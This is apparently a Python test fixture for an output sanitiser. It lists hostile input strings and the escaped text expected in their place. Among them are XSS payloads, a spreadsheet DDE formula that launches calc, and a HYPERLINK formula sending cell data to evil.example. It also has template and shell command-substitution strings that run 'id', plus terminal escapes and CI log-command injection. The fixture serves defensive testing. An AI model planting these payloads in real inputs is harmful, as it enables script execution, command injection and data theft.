# Copyright (c) 2026, The finops.cloudflare contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Names that somebody chose to do harm, each with the line that people and programs get to read in its place."""

from __future__ import annotations

_SAME = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</style></title><svg onload=alert(1)>",
    "<!-- --> & &amp; &lt; &#60;",
    "]]></testcase></testsuite>",
    "\"double\" 'single' `back`",
    'label="x"} 1 # {a="b"}',
    "back\\slash \\n \\u0041",
    "=1+1",
    "+1",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "a;b,c|d",
    "| a | b |",
    "**bold** _it_ ~~gone~~ `code` $x$",
    "# heading",
    "1. one",
    "> quote",
    "[x](javascript:alert(1)) ![y](https://evil.example/z.png)",
    "[x][0] {0} {1}",
    "@octocat @org/team #1 GH-1 !1",
    "@channel <!here> <https://evil.example|x>",
    "https://evil.example www.evil.example",
    "{{ lookup('ansible.builtin.pipe', 'id') }}",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "$(id) `id` ${IFS} %x% %(x)s",
    "null",
    "NaN",
    "1e309",
    "h\u00e4 \u6f22\u5b57 \U0001f600",
)
CORPUS = {
    **{name: name for name in _SAME},
    "\x1b[31mred\x1b[0m": "\ufffd[31mred\ufffd[0m",
    "\x1b]0;title\x07\x9b1m": "\ufffd]0;title\ufffd\ufffd1m",
    "one\r\ntwo\tthree\n\nfour": "one two three four",
    "\t=1+1": "=1+1",
    "  \u00a0lead  and  trail  ": "lead and trail",
    "\u202eright to left\u2066": "\ufffdright to left\ufffd",
    "zero\u200bwidth\ufeff": "zero\ufffdwidth\ufffd",
    "\u2028line\u2029end": "line end",
    "##[error]x": "# #[error]x",
    "##vso[task.setvariable variable=x]y": "# #vso[task.setvariable variable=x]y",
    "::add-mask::x": ": :add-mask::x",
    "::error file=a::x": ": :error file=a::x",
}
